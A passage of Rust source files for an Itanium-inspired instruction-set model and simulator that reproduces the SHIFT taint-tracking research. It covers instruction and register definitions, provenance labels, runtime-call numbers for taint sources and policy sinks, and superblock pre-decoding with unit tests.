        /// Absolute instruction index of the callee entry.
        target: usize,
    },
    /// Indirect branch through a branch register (returns use `link = b0`).
    JmpBr {
        /// Branch register holding the target instruction index.
        br: Br,
    },
    /// Move a GPR into a branch register.
    ///
    /// Raises a NaT-consumption fault if the source is NaT — this is the
    /// hardware half of policy **L3** (tainted data cannot reach CPU control
    /// state).
    MovToBr {
        /// Destination branch register.
        br: Br,
        /// Source GPR.
        src: R,
    },
    /// Move a branch register into a GPR.
    MovFromBr {
        /// Destination GPR.
        dst: R,
        /// Source branch register.
        br: Br,
    },
    /// Test a register's NaT bit into a predicate pair: `pt = NaT(src)`,
    /// `pf = !NaT(src)` (IA-64 `tnat.nz`/`tnat.z`). This is *existing*
    /// Itanium functionality — Figure 5's store instrumentation uses it to
    /// test whether the source register is tainted (instruction ①).
    Tnat {
        /// Predicate set if the NaT bit is set.
        pt: Pr,
        /// Predicate set if the NaT bit is clear.
        pf: Pr,
        /// Register whose NaT bit is tested.
        src: R,
    },
    /// Architectural enhancement ①: set `dst`'s NaT bit, preserving its
    /// value.
    ///
    /// Baseline Itanium lacks this; SHIFT synthesizes a NaT'd register with a
    /// speculative load from a faked invalid address and *taints* other
    /// registers by adding that register to them (§4.1). Only emitted when
    /// the set/clear enhancement mode is enabled.
    Tset {
        /// Register to taint.
        dst: R,
    },
    /// Architectural enhancement ②: clear `dst`'s NaT bit, keeping its value.
    ///
    /// Baseline Itanium synthesizes this with a spill/reload pair.
    Tclr {
        /// Register to untaint.
        dst: R,
    },
    /// Trap into the host OS / runtime (taint sources, sinks, I/O).
    ///
    /// Arguments are passed in `r16..`, the result in `r8`, by convention
    /// (see [`crate::sys`] for the call numbers).
    Syscall {
        /// Runtime call number.
        num: u32,
    },
    /// No operation (alignment / scheduling filler).
    Nop,
    /// Stop the machine; `r8` holds the exit value.
    Halt,
}

impl<R: Copy> Op<R> {
    /// Destination register written by this operation, if any.
    pub fn def_reg(&self) -> Option<R> {
        match *self {
            Op::Alu { dst, .. }
            | Op::AluI { dst, .. }
            | Op::MovI { dst, .. }
            | Op::Mov { dst, .. }
            | Op::Ext { dst, .. }
            | Op::Ld { dst, .. }
            | Op::LdFill { dst, .. }
            | Op::MovFromBr { dst, .. }
            | Op::Tset { dst }
            | Op::Tclr { dst } => Some(dst),
            _ => None,
        }
    }

    /// Registers read by this operation (up to two).
    pub fn use_regs(&self) -> [Option<R>; 2] {
        match *self {
            Op::Alu { src1, src2, .. } => [Some(src1), Some(src2)],
            Op::AluI { src1, .. } => [Some(src1), None],
            Op::Mov { src, .. } | Op::Ext { src, .. } => [Some(src), None],
            Op::Cmp { src1, src2, .. } => [Some(src1), Some(src2)],
            Op::CmpI { src1, .. } => [Some(src1), None],
            Op::Ld { addr, .. } | Op::LdFill { addr, .. } => [Some(addr), None],
            Op::St { src, addr, .. } | Op::StSpill { src, addr } => [Some(src), Some(addr)],
            Op::ChkS { src, .. } | Op::MovToBr { src, .. } | Op::Tnat { src, .. } => {
                [Some(src), None]
            }
            _ => [None, None],
        }
    }

    /// Returns `true` for instructions that touch data memory.
    pub fn is_memory(&self) -> bool {
        matches!(self, Op::Ld { .. } | Op::St { .. } | Op::StSpill { .. } | Op::LdFill { .. })
    }

    /// Returns `true` for control-transfer instructions.
    pub fn is_control(&self) -> bool {
        matches!(
            self,
            Op::Jmp { .. } | Op::Call { .. } | Op::JmpBr { .. } | Op::ChkS { .. } | Op::Halt
        )
    }
}

/// A complete instruction: qualifying predicate, operation, and the
/// provenance label used for the paper's Figure 9 cost breakdown.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Insn {
    /// Qualifying predicate; the instruction executes only if it reads true.
    /// `p0` (hardwired true) means "always".
    pub qp: Pr,
    /// The operation.
    pub op: Op,
    /// Who emitted this instruction (original code vs. instrumentation).
    pub prov: Provenance,
}

impl Insn {
    /// An unconditional instruction with [`Provenance::Original`].
    #[inline]
    pub fn new(op: Op) -> Insn {
        Insn { qp: Pr::P0, op, prov: Provenance::Original }
    }

    /// An unconditional instruction with an explicit provenance.
    #[inline]
    pub fn tagged(op: Op, prov: Provenance) -> Insn {
        Insn { qp: Pr::P0, op, prov }
    }

    /// Sets the qualifying predicate, builder-style.
    #[inline]
    pub fn under(mut self, qp: Pr) -> Insn {
        self.qp = qp;
        self
    }

    /// Sets the provenance, builder-style.
    #[inline]
    pub fn with_prov(mut self, prov: Provenance) -> Insn {
        self.prov = prov;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cmp_rel_eval_matrix() {
        let neg = u64::MAX; // -1 signed
        assert!(CmpRel::Eq.eval(5, 5));
        assert!(CmpRel::Ne.eval(5, 6));
        assert!(CmpRel::Lt.eval(neg, 0)); // -1 < 0 signed
        assert!(!CmpRel::Ltu.eval(neg, 0)); // max > 0 unsigned
        assert!(CmpRel::Le.eval(3, 3));
        assert!(CmpRel::Gt.eval(0, neg));
        assert!(CmpRel::Ge.eval(7, 7));
        assert!(CmpRel::Geu.eval(neg, 1));
    }

    #[test]
    fn negated_is_complement() {
        for rel in [
            CmpRel::Eq,
            CmpRel::Ne,
            CmpRel::Lt,
            CmpRel::Le,
            CmpRel::Gt,
            CmpRel::Ge,
            CmpRel::Ltu,
            CmpRel::Geu,
        ] {
            for (a, b) in [(0u64, 0u64), (1, 2), (u64::MAX, 0), (5, u64::MAX)] {
                assert_eq!(rel.eval(a, b), !rel.negated().eval(a, b), "{rel:?} {a} {b}");
            }
        }
    }

    #[test]
    fn swapped_is_operand_swap() {
        for rel in [CmpRel::Eq, CmpRel::Ne, CmpRel::Lt, CmpRel::Le, CmpRel::Gt, CmpRel::Ge] {
            for (a, b) in [(0u64, 0u64), (1, 2), (9, 3)] {
                assert_eq!(rel.eval(a, b), rel.swapped().eval(b, a), "{rel:?} {a} {b}");
            }
        }
    }

    #[test]
    fn def_use_extraction() {
        let op = Op::Alu { op: AluOp::Add, dst: Gpr::R3, src1: Gpr::R1, src2: Gpr::R2 };
        assert_eq!(op.def_reg(), Some(Gpr::R3));
        assert_eq!(op.use_regs(), [Some(Gpr::R1), Some(Gpr::R2)]);

        let st = Op::St { size: MemSize::B8, src: Gpr::R4, addr: Gpr::R5 };
        assert_eq!(st.def_reg(), None);
        assert_eq!(st.use_regs(), [Some(Gpr::R4), Some(Gpr::R5)]);
        assert!(st.is_memory());
        assert!(!st.is_control());
    }

    #[test]
    fn insn_builders() {
        let i = Insn::new(Op::Nop).under(Pr::P3).with_prov(Provenance::LdTagCompute);
        assert_eq!(i.qp, Pr::P3);
        assert_eq!(i.prov, Provenance::LdTagCompute);
    }
}
