//! # shift-isa — an Itanium-inspired ISA with deferred-exception (NaT) support
//!
//! This crate defines the instruction set executed by `shift-machine` and
//! targeted by `shift-compiler`. It is a deliberately simplified model of
//! the Itanium (IA-64) architecture, keeping exactly the features the SHIFT
//! paper (ISCA 2008) relies on:
//!
//! * every general-purpose register carries a **NaT bit** ("Not a Thing"),
//!   the deferred-exception token that SHIFT reuses as a taint tag;
//! * **speculative loads** (`ld*.s`) that record exceptions in the NaT bit
//!   instead of faulting;
//! * **`chk.s`**, which branches to recovery code when a register's NaT bit
//!   is set;
//! * **`st8.spill` / `ld8.fill`**, the only memory instructions that preserve
//!   NaT bits (via the `UNAT` application register);
//! * NaT-*sensitive* instructions: ordinary compares clear both target
//!   predicates when an operand is NaT, and ordinary stores / address uses of
//!   NaT registers raise a NaT-consumption fault — the behaviours SHIFT must
//!   "relax" around (§4.1 of the paper);
//! * the paper's three proposed **architectural enhancements** (§6.3):
//!   [`Op::Tset`], [`Op::Tclr`] (set/clear a register's NaT bit directly) and
//!   NaT-aware compares ([`Op::Cmp`] with `nat_aware = true`).
//!
//! Like real IA-64, (almost) every instruction is predicated by a qualifying
//! predicate register; `p0` is hardwired to `true`.
//!
//! The crate is pure data + pretty-printing: no execution semantics live here
//! (see `shift-machine`) and no encoding to bits is performed — a program is
//! a `Vec<Insn>` indexed by instruction address, which is faithful enough for
//! a cycle-cost study and keeps the simulator honest about instruction
//! *counts* (Table 3 of the paper reports code expansion, which we measure in
//! instructions and in modelled bundle bytes).
//!
//! ## Example
//!
//! ```
//! use shift_isa::{Insn, Op, AluOp, Gpr, Pr};
//!
//! // r3 = r1 + r2, unconditionally (qualifying predicate p0)
//! let i = Insn::new(Op::Alu { op: AluOp::Add, dst: Gpr::R3, src1: Gpr::R1, src2: Gpr::R2 });
//! assert_eq!(i.qp, Pr::P0);
//! assert_eq!(format!("{i}"), "add r3 = r1, r2");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod cost;
mod disasm;
mod insn;
mod provenance;
mod reg;
pub mod sys;

pub use cost::CostModel;
pub use disasm::disasm_listing;
pub use insn::{AluOp, CmpRel, ExtKind, Insn, MemSize, Op};
pub use provenance::Provenance;
pub use reg::{Br, Gpr, Pr};

/// Number of implemented virtual-address offset bits within a region.
///
/// IA-64 lets an implementation leave high offset bits *unimplemented*,
/// creating holes in the virtual address space (paper §4.1, Figure 4). We
/// model 40 implemented bits: a canonical address is
/// `[region:3][zero hole:21][offset:40]`.
pub const IMPL_BITS: u32 = 40;

/// Mask selecting the implemented offset bits of a virtual address.
pub const IMPL_MASK: u64 = (1u64 << IMPL_BITS) - 1;

/// Number of bits used to select the virtual-address region (top 3 bits).
pub const REGION_BITS: u32 = 3;

/// Returns the region number (0–7) of a virtual address.
#[inline]
pub fn region_of(vaddr: u64) -> u8 {
    (vaddr >> 61) as u8
}

/// Returns the implemented offset of a virtual address within its region.
#[inline]
pub fn offset_of(vaddr: u64) -> u64 {
    vaddr & IMPL_MASK
}

/// Returns `true` if `vaddr` touches no unimplemented bits.
///
/// Bits 40..61 must be zero; bits 61..64 select the region.
#[inline]
pub fn is_implemented(vaddr: u64) -> bool {
    vaddr & !(IMPL_MASK | (0b111 << 61)) == 0
}

/// Builds a canonical virtual address from a region and an offset.
///
/// # Panics
///
/// Panics if `offset` has bits above [`IMPL_BITS`] set.
#[inline]
pub fn make_vaddr(region: u8, offset: u64) -> u64 {
    assert!(region < 8, "region out of range");
    assert_eq!(offset & !IMPL_MASK, 0, "offset touches unimplemented bits");
    ((region as u64) << 61) | offset
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn region_and_offset_round_trip() {
        for region in 0..8u8 {
            for offset in [0u64, 1, 0xfff, IMPL_MASK] {
                let va = make_vaddr(region, offset);
                assert_eq!(region_of(va), region);
                assert_eq!(offset_of(va), offset);
                assert!(is_implemented(va));
            }
        }
    }

    #[test]
    fn unimplemented_bits_detected() {
        // Bit 45 lies in the hole between IMPL_BITS and the region field.
        let bad = (1u64 << 45) | 0x10;
        assert!(!is_implemented(bad));
        // A pure region-3 address is fine.
        assert!(is_implemented(3u64 << 61));
    }

    #[test]
    #[should_panic(expected = "offset touches unimplemented bits")]
    fn make_vaddr_rejects_hole_bits() {
        let _ = make_vaddr(1, 1u64 << 44);
    }
}
