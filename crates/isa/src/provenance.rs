//! Instruction provenance labels.
//!
//! Every instruction in a compiled image records *who emitted it*. The
//! simulator accumulates cycles per label, which regenerates the paper's
//! Figure 9 ("breakdown of the performance slowdown among computation and
//! memory access in load and store instructions") exactly instead of
//! estimating it from samples.

use core::fmt;

/// Origin of an emitted instruction.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub enum Provenance {
    /// Application code (including compiler-inserted spills and frame setup —
    /// those exist in the uninstrumented baseline too).
    Original,
    /// Tag-address **computation** inserted for a *load*: region folding,
    /// shifting, masking, bit extraction (Figure 9's "ld-compute").
    LdTagCompute,
    /// Bitmap **memory access** inserted for a *load* (Figure 9's "ld-mem").
    LdTagMemory,
    /// Tag-address computation inserted for a *store*.
    StTagCompute,
    /// Bitmap memory access (read-modify-write) inserted for a *store*.
    StTagMemory,
    /// Relaxation code around NaT-sensitive instructions (compare spill/fill,
    /// address-register laundering) — removed by the `cmp.nat` enhancement.
    Relax,
    /// Taint-source material: manufacturing a NaT'd register from a faked
    /// speculative load, or tagging syscall results.
    TaintSource,
    /// Policy checks (`chk.s` insertion and violation dispatch).
    Check,
}

impl Provenance {
    /// All labels in display order.
    pub const ALL: [Provenance; 8] = [
        Provenance::Original,
        Provenance::LdTagCompute,
        Provenance::LdTagMemory,
        Provenance::StTagCompute,
        Provenance::StTagMemory,
        Provenance::Relax,
        Provenance::TaintSource,
        Provenance::Check,
    ];

    /// Returns `true` for any label other than [`Provenance::Original`].
    #[inline]
    pub fn is_instrumentation(self) -> bool {
        self != Provenance::Original
    }

    /// Short, stable name used in reports.
    pub const fn name(self) -> &'static str {
        match self {
            Provenance::Original => "original",
            Provenance::LdTagCompute => "ld-compute",
            Provenance::LdTagMemory => "ld-mem",
            Provenance::StTagCompute => "st-compute",
            Provenance::StTagMemory => "st-mem",
            Provenance::Relax => "relax",
            Provenance::TaintSource => "taint-src",
            Provenance::Check => "check",
        }
    }

    /// Dense index for per-label accounting arrays.
    #[inline]
    pub const fn index(self) -> usize {
        match self {
            Provenance::Original => 0,
            Provenance::LdTagCompute => 1,
            Provenance::LdTagMemory => 2,
            Provenance::StTagCompute => 3,
            Provenance::StTagMemory => 4,
            Provenance::Relax => 5,
            Provenance::TaintSource => 6,
            Provenance::Check => 7,
        }
    }
}

impl fmt::Display for Provenance {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn indices_are_dense_and_unique() {
        let mut seen = [false; Provenance::ALL.len()];
        for p in Provenance::ALL {
            assert!(!seen[p.index()], "duplicate index for {p}");
            seen[p.index()] = true;
        }
        assert!(seen.iter().all(|&s| s));
    }

    #[test]
    fn instrumentation_classification() {
        assert!(!Provenance::Original.is_instrumentation());
        for p in Provenance::ALL.into_iter().skip(1) {
            assert!(p.is_instrumentation(), "{p} should be instrumentation");
        }
    }

    #[test]
    fn names_are_nonempty_and_unique() {
        let mut names: Vec<_> = Provenance::ALL.iter().map(|p| p.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), Provenance::ALL.len());
    }
}
