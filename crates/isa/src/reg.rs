//! Register names: general-purpose, predicate, and branch registers.

use core::fmt;

macro_rules! register_enum {
    (
        $(#[$meta:meta])*
        $name:ident, $prefix:literal, $count:literal, [$($variant:ident = $idx:literal),+ $(,)?]
    ) => {
        $(#[$meta])*
        #[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
        #[repr(u8)]
        #[allow(missing_docs)]
        pub enum $name {
            $($variant = $idx),+
        }

        impl $name {
            /// Total number of architected registers of this class.
            pub const COUNT: usize = $count;

            /// All registers of this class, in index order.
            pub const ALL: [$name; $count] = [$($name::$variant),+];

            /// Returns the register's architectural index.
            #[inline]
            pub const fn index(self) -> usize {
                self as usize
            }

            /// Returns the register with the given architectural index.
            ///
            /// # Panics
            ///
            /// Panics if `idx >= Self::COUNT`.
            #[inline]
            pub fn from_index(idx: usize) -> Self {
                Self::ALL[idx]
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, "{}{}", $prefix, self.index())
            }
        }
    };
}

register_enum! {
    /// A general-purpose register.
    ///
    /// 32 architected GPRs, each 64 bits wide **plus a NaT bit**. `r0` reads
    /// as zero and ignores writes (like IA-64). By software convention:
    ///
    /// * `r12` is the stack pointer,
    /// * `r8` holds function / syscall return values,
    /// * `r16`–`r23` hold outgoing arguments,
    /// * `r28`–`r31` are reserved for SHIFT instrumentation scratch — the
    ///   register allocator never hands them out, so instrumented sequences
    ///   can be inserted between any two instructions without live-range
    ///   interference (the paper reserves scratch the same way inside GCC's
    ///   post-allocation phase).
    Gpr, "r", 32, [
        R0 = 0, R1 = 1, R2 = 2, R3 = 3, R4 = 4, R5 = 5, R6 = 6, R7 = 7,
        R8 = 8, R9 = 9, R10 = 10, R11 = 11, R12 = 12, R13 = 13, R14 = 14, R15 = 15,
        R16 = 16, R17 = 17, R18 = 18, R19 = 19, R20 = 20, R21 = 21, R22 = 22, R23 = 23,
        R24 = 24, R25 = 25, R26 = 26, R27 = 27, R28 = 28, R29 = 29, R30 = 30, R31 = 31,
    ]
}

register_enum! {
    /// A predicate register (1 bit). `p0` is hardwired to `true`, so using it
    /// as a qualifying predicate means "always execute".
    Pr, "p", 8, [
        P0 = 0, P1 = 1, P2 = 2, P3 = 3, P4 = 4, P5 = 5, P6 = 6, P7 = 7,
    ]
}

register_enum! {
    /// A branch register. `b0` conventionally holds the return address.
    Br, "b", 8, [
        B0 = 0, B1 = 1, B2 = 2, B3 = 3, B4 = 4, B5 = 5, B6 = 6, B7 = 7,
    ]
}

impl Gpr {
    /// The stack pointer by software convention.
    pub const SP: Gpr = Gpr::R12;
    /// Function and syscall return-value register.
    pub const RET: Gpr = Gpr::R8;
    /// First outgoing-argument register (`r16`); arguments occupy `r16..=r23`.
    pub const ARG0: Gpr = Gpr::R16;
    /// Number of argument registers.
    pub const ARG_COUNT: usize = 8;
    /// First instrumentation scratch register; scratch is `r28..=r31`.
    pub const SCRATCH0: Gpr = Gpr::R28;
    /// Registers reserved for the SHIFT instrumentation pass.
    pub const SCRATCH: [Gpr; 4] = [Gpr::R28, Gpr::R29, Gpr::R30, Gpr::R31];

    /// Returns the `n`-th argument register.
    ///
    /// # Panics
    ///
    /// Panics if `n >= Self::ARG_COUNT`.
    #[inline]
    pub fn arg(n: usize) -> Gpr {
        assert!(n < Self::ARG_COUNT, "argument register index out of range");
        Gpr::from_index(Gpr::ARG0.index() + n)
    }

    /// Returns `true` if this register is reserved for instrumentation.
    #[inline]
    pub fn is_scratch(self) -> bool {
        self.index() >= Gpr::SCRATCH0.index()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn indices_round_trip() {
        for r in Gpr::ALL {
            assert_eq!(Gpr::from_index(r.index()), r);
        }
        for p in Pr::ALL {
            assert_eq!(Pr::from_index(p.index()), p);
        }
        for b in Br::ALL {
            assert_eq!(Br::from_index(b.index()), b);
        }
    }

    #[test]
    fn display_names() {
        assert_eq!(Gpr::R12.to_string(), "r12");
        assert_eq!(Pr::P0.to_string(), "p0");
        assert_eq!(Br::B7.to_string(), "b7");
    }

    #[test]
    fn conventions() {
        assert_eq!(Gpr::SP, Gpr::R12);
        assert_eq!(Gpr::arg(0), Gpr::R16);
        assert_eq!(Gpr::arg(7), Gpr::R23);
        assert!(Gpr::R28.is_scratch());
        assert!(!Gpr::R27.is_scratch());
    }

    #[test]
    #[should_panic(expected = "argument register index out of range")]
    fn arg_out_of_range_panics() {
        let _ = Gpr::arg(8);
    }
}
