//! Runtime-call (syscall) numbers shared by the compiler, the guest libc and
//! the host runtime.
//!
//! A [`crate::Op::Syscall`] traps into the host runtime (`shift-core`), which
//! plays the role of the operating system *and* of the paper's policy engine:
//! calls marked as **taint sources** set tag bits for the bytes they write,
//! and calls marked as **sinks** run the configured security policies over
//! the taint of their arguments before performing the operation.
//!
//! Calling convention: arguments in `r16..=r23`, result in `r8`. String
//! arguments are passed as `(address, length)` pairs except paths, which are
//! NUL-terminated to keep the guest-libc string routines honest.

/// Terminate the program; `arg0` is the exit status.
pub const EXIT: u32 = 0;
/// Write `(arg0=addr, arg1=len)` to the diagnostic log (not a policy sink).
pub const PRINT: u32 = 1;
/// Read up to `arg1` bytes of network input into `arg0`; returns bytes read.
/// Default configuration: **taint source** (channel `network`).
pub const NET_READ: u32 = 2;
/// Send `(arg0=addr, arg1=len)` to the network peer.
pub const NET_WRITE: u32 = 3;
/// Open the NUL-terminated path at `arg0` with mode `arg1` (0 read, 1 write);
/// returns a file descriptor or -1. **Sink** for policies H1/H2.
pub const FILE_OPEN: u32 = 4;
/// Read up to `arg2` bytes from fd `arg0` into `arg1`; returns bytes read.
/// Default configuration: **taint source** (channel `disk`).
pub const FILE_READ: u32 = 5;
/// Write `(arg1=addr, arg2=len)` to fd `arg0`; returns bytes written.
pub const FILE_WRITE: u32 = 6;
/// Close fd `arg0`.
pub const FILE_CLOSE: u32 = 7;
/// Read up to `arg1` bytes of keyboard input into `arg0`; returns bytes read.
/// Default configuration: **taint source** (channel `keyboard`).
pub const KBD_READ: u32 = 8;
/// Execute the SQL statement `(arg0=addr, arg1=len)`. **Sink** for H3.
pub const SQL_EXEC: u32 = 9;
/// Run the shell command `(arg0=addr, arg1=len)`. **Sink** for H4.
pub const SYSTEM: u32 = 10;
/// Emit `(arg0=addr, arg1=len)` into the HTTP response body. **Sink** for H5.
pub const HTML_OUT: u32 = 11;
/// Return the size of the file at the NUL-terminated path `arg0`, or -1.
pub const FILE_STAT: u32 = 12;
/// Grow the heap by `arg0` bytes; returns the base address of the new block
/// (8-byte aligned). The bump allocator never frees.
pub const BRK: u32 = 13;
/// Copy program argument `arg0` into `(arg1=addr, arg2=max)`; returns its
/// length, or -1 if there is no such argument. Taintedness is configurable
/// per program (GNU tar's attack arrives through `argv`).
pub const GET_ARG: u32 = 14;
/// Debug/testing only: returns 1 if any of the `arg1` bytes at `arg0` are
/// tainted in the host's reference shadow map, else 0. Never used by
/// instrumented application logic.
pub const DEBUG_TAINT: u32 = 15;
/// Returns the current simulated cycle count (diagnostics only).
pub const CLOCK: u32 = 16;
/// Raised from compiler-inserted `chk.s` recovery stubs when a guarded
/// register carried a taint tag (§3.3.3's user-level violation handling).
/// Never returns: the runtime stops the run with a `GUARD` violation.
pub const ALERT: u32 = 17;

/// Human-readable name for a runtime-call number (diagnostics).
pub fn name(num: u32) -> &'static str {
    match num {
        EXIT => "exit",
        PRINT => "print",
        NET_READ => "net_read",
        NET_WRITE => "net_write",
        FILE_OPEN => "file_open",
        FILE_READ => "file_read",
        FILE_WRITE => "file_write",
        FILE_CLOSE => "file_close",
        KBD_READ => "kbd_read",
        SQL_EXEC => "sql_exec",
        SYSTEM => "system",
        HTML_OUT => "html_out",
        FILE_STAT => "file_stat",
        BRK => "brk",
        GET_ARG => "get_arg",
        DEBUG_TAINT => "debug_taint",
        CLOCK => "clock",
        ALERT => "alert",
        _ => "unknown",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_are_unique() {
        let nums = [
            EXIT,
            PRINT,
            NET_READ,
            NET_WRITE,
            FILE_OPEN,
            FILE_READ,
            FILE_WRITE,
            FILE_CLOSE,
            KBD_READ,
            SQL_EXEC,
            SYSTEM,
            HTML_OUT,
            FILE_STAT,
            BRK,
            GET_ARG,
            DEBUG_TAINT,
            CLOCK,
            ALERT,
        ];
        let mut sorted = nums;
        sorted.sort_unstable();
        for w in sorted.windows(2) {
            assert_ne!(w[0], w[1], "duplicate syscall number {}", w[0]);
        }
    }

    #[test]
    fn names_resolve() {
        assert_eq!(name(FILE_OPEN), "file_open");
        assert_eq!(name(9999), "unknown");
    }
}
