//! Pre-decoded superblock program: straight-line instruction runs flattened
//! into a micro-op arena for the trace-threaded dispatch tier.
//!
//! The per-instruction dispatcher in [`crate::Machine`] pays fixed costs on
//! every instruction: a bounds-checked fetch from `code`, a budget compare,
//! an `ip` store, a second indexed load for the base cost, and four
//! read-modify-writes into [`crate::Stats`]. A [`BlockProgram`] removes all
//! of them from straight-line code: every basic block is decoded **once**
//! (at [`crate::MachineSeed`] build time) into a flat arena of uniform
//! [`MicroOp`]s whose qualifying predicate, provenance label, and base cycle
//! cost ride alongside the operation, and the executor walks a block with a
//! plain slice iterator, folding retire accounting into stack-local
//! accumulators that are flushed exactly once per block.
//!
//! Everything here is a **host-speed detail**: a superblock executes the
//! same architectural steps, charges the same modelled cycles, and raises
//! the same faults as the per-instruction stepper, instruction for
//! instruction. The differential proptests in
//! `crates/machine/tests/block_props.rs` and the golden fixture in
//! `tests/perf_invariance.rs` enforce this bit-identity.
//!
//! See DESIGN.md §13 for the discovery rules, the boundary-check contract,
//! and the dispatch-tier diagram.

use shift_isa::{CostModel, Insn, Op, Provenance};

/// Number of provenance labels (accumulator array width).
pub(crate) const NPROV: usize = Provenance::ALL.len();

/// A decoded instruction in the superblock arena.
///
/// "Uniform" means every field the executor needs is pre-resolved here, in
/// one contiguous record: the operation payload (whose register operands are
/// already architectural indices — `Gpr`/`Pr`/`Br` are `repr(u8)`), the
/// qualifying predicate, the provenance label for cycle attribution, and the
/// base cycle cost that the cold path would re-derive from
/// `CostModel::base`. The executor never touches `code` or `base_cost`
/// while inside a block.
#[derive(Clone, Copy, Debug)]
pub(crate) struct MicroOp {
    /// The operation, verbatim from the decoded [`Insn`].
    pub op: Op,
    /// Qualifying predicate (architectural index; `p0` = always execute).
    pub qp: shift_isa::Pr,
    /// Provenance label for retire attribution.
    pub prov: Provenance,
    /// Precomputed *effective* base cycles: `CostModel::base`, except that
    /// unconditional control transfers (`jmp`, `call`, `jmp.br`) carry
    /// `branch_taken` — inside a block they always take, so the executor
    /// need not special-case them at retire time.
    pub base: u32,
}

/// One entry of a block's precomputed *full-pass* retire accounting:
/// `insns` instructions costing `cycles` cycles, attributed to provenance
/// index `prov`, assuming an undeviated pass (every predicate on, no memory
/// stalls, `chk.s` falling through). The executor merges these entries when
/// a block completes and records only *deviations* from the assumption as
/// they happen, so conforming micro-ops retire with zero accounting work.
/// Blocks touch one or two provenance labels in practice, so the sparse
/// form merges in a couple of adds where a dense `[u64; NPROV]` merge would
/// pay for every label on every block.
#[derive(Clone, Copy, Debug)]
pub(crate) struct ProvAcct {
    /// `Provenance::index()` of the attributed label.
    pub prov: u8,
    /// Total base cycles for the entry's instructions.
    pub cycles: u32,
    /// Number of instructions attributed.
    pub insns: u32,
}

/// One basic block: a maximal straight-line run of instructions that control
/// can only enter at the top.
///
/// A block ends at the first control-transfer instruction (`jmp`, `call`,
/// `jmp.br`, `chk.s`, `halt`), at a `syscall` (the runtime gets `&mut
/// Machine` and may re-arm any boundary-checked state), or just before the
/// next leader (an instruction some branch targets).
#[derive(Clone, Debug)]
pub(crate) struct Block {
    /// Instruction index of the block's first instruction.
    pub start: u32,
    /// Offset of the block's first micro-op in [`BlockProgram::uops`].
    pub uop_start: u32,
    /// Number of instructions (== micro-ops) in the block.
    pub len: u32,
    /// `true` when the block can take the semantics-only fast loop: every
    /// micro-op is unpredicated and none has a dynamic cycle cost (memory
    /// stalls, `chk.s` outcomes) or can fault / trap mid-block — so a full
    /// pass can never deviate from the precomputed accounting.
    pub pure: bool,
    /// First entry of this block's full-pass accounting in
    /// [`BlockProgram::accts`].
    pub acct_start: u32,
    /// Number of accounting entries (distinct provenance labels touched).
    pub acct_len: u32,
}

/// The whole code image pre-decoded into superblocks.
///
/// Built once per [`crate::MachineSeed`] and shared by every spawned
/// instance through `Arc` — decode cost is paid at load time, never on the
/// execution path. Guest code is immutable (`Arc<[Insn]>`; the ISA has no
/// code store), so the program can never go stale while a machine runs; the
/// only invalidation path is [`crate::Machine::flush_superblocks`], which
/// rebuilds the tables wholesale.
#[derive(Clone, Debug)]
pub(crate) struct BlockProgram {
    /// All blocks, ordered by `start`.
    pub blocks: Box<[Block]>,
    /// Flat micro-op arena; block `b` owns
    /// `uops[b.uop_start .. b.uop_start + b.len]`.
    pub uops: Box<[MicroOp]>,
    /// Sparse precomputed full-pass accounting; block `b` owns
    /// `accts[b.acct_start .. b.acct_start + b.acct_len]`.
    pub accts: Box<[ProvAcct]>,
    /// Map from instruction index to owning block index.
    block_of: Box<[u32]>,
}

impl BlockProgram {
    /// Decodes `code` into superblocks.
    ///
    /// Discovery is a single linear pass (plus a leader marking pass): a
    /// *leader* is the entry point, any static branch target (`jmp`, `call`,
    /// `chk.s` recovery), or the instruction after any block terminator —
    /// so every statically-known control transfer lands on a block start.
    /// Indirect targets (`jmp.br`) cannot be enumerated statically; an
    /// indirect jump into the middle of a block is legal and simply executes
    /// on the per-instruction fallback tier until it rejoins a leader.
    pub fn build(code: &[Insn], cost: &CostModel) -> BlockProgram {
        let n = code.len();
        let mut leader = vec![false; n + 1];
        leader[0] = true;
        for (ip, insn) in code.iter().enumerate() {
            match insn.op {
                Op::Jmp { target } | Op::Call { target, .. } | Op::ChkS { target, .. }
                    if target <= n =>
                {
                    leader[target] = true;
                }
                _ => {}
            }
            if is_terminator(&insn.op) {
                leader[ip + 1] = true;
            }
        }

        let mut blocks = Vec::new();
        let mut uops = Vec::with_capacity(n);
        let mut accts = Vec::new();
        let mut block_of = vec![0u32; n];
        let mut start = 0usize;
        while start < n {
            // A block runs to the next leader; every terminator's successor
            // is a leader, so no block runs past a terminator.
            let mut end = start + 1;
            while end < n && !leader[end] {
                end += 1;
            }
            let uop_start = uops.len() as u32;
            let mut pure = true;
            let mut cycles_by_prov = [0u64; NPROV];
            let mut insns_by_prov = [0u64; NPROV];
            for insn in &code[start..end] {
                let base = cost.base(&insn.op);
                // Unconditional transfers always take inside a block, so
                // their effective retire cost is `branch_taken`, not the
                // fall-through cost the per-instruction table carries.
                let effective = match insn.op {
                    Op::Jmp { .. } | Op::Call { .. } | Op::JmpBr { .. } => cost.branch_taken,
                    _ => base,
                };
                // The full-pass accounting charges every micro-op its
                // effective base cost. Ops whose real cost can deviate from
                // it — memory ops stall, `chk.s` outcome depends on NaT
                // state, faulting/trapping ops end the block early — and
                // predicated ops (which may retire at `pred_off` instead)
                // make the block impure: the executor then records the
                // deviations as they happen, against this same baseline.
                let deviates = matches!(
                    insn.op,
                    Op::Ld { .. }
                        | Op::St { .. }
                        | Op::StSpill { .. }
                        | Op::LdFill { .. }
                        | Op::ChkS { .. }
                        | Op::MovToBr { .. }
                        | Op::Syscall { .. }
                        | Op::Halt
                );
                if deviates || insn.qp != shift_isa::Pr::P0 {
                    pure = false;
                }
                cycles_by_prov[insn.prov.index()] += effective;
